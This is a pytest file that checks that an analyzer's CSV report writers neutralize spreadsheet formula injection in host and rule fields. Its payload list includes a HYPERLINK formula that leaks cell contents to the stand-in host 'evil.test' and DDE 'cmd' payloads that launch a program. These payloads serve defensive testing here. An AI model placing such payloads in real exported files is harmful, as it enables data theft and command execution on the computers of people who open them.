"""findings.csv and coverage.csv: cells a spreadsheet would evaluate are neutralized."""

import csv

import pytest
from report_fakes import coverage_row, flow, make_result

from analyzer.reports import machine

FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def safe(payload: str) -> str:
    """What a formula cell becomes: a CR is shown as ``\\r`` (no spreadsheet evaluates a cell
    starting with a backslash), the others get an apostrophe."""
    return payload.replace("\r", "\\r") if payload.startswith("\r") else "'" + payload


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("payload", FORMULAS)
def test_findings_csv_neutralizes_formulas(tmp_path, payload):
    rows = [flow("unexpected-allowed", payload, rule=payload), flow("required-allowed", "download.windowsupdate.com")]
    result = make_result(rows)
    rows = read_csv(machine.write_findings_csv(result, tmp_path))
    finding = next(r for r in rows if r["verdict"] == "unexpected-allowed")
    assert finding["host"] == safe(payload)
    assert finding["device_rules"] == safe(payload)


@pytest.mark.parametrize("payload", FORMULAS)
def test_coverage_csv_neutralizes_formulas(tmp_path, payload):
    result = make_result(
        [flow("required-allowed", "download.windowsupdate.com")], [coverage_row(payload, "never-seen", server=payload)]
    )
    row = read_csv(machine.write_coverage_csv(result, tmp_path))[0]
    assert row["entry"] == safe(payload) and row["server"] == safe(payload)


def test_ordinary_cells_and_the_dash_are_left_alone(tmp_path):
    result = make_result(
        [flow("unexpected-blocked", "evil.test", rule="-"), flow("required-allowed", "download.windowsupdate.com")]
    )
    finding = next(
        r for r in read_csv(machine.write_findings_csv(result, tmp_path)) if r["verdict"] == "unexpected-blocked"
    )
    assert finding["host"] == "evil.test" and finding["device_rules"] == "-"
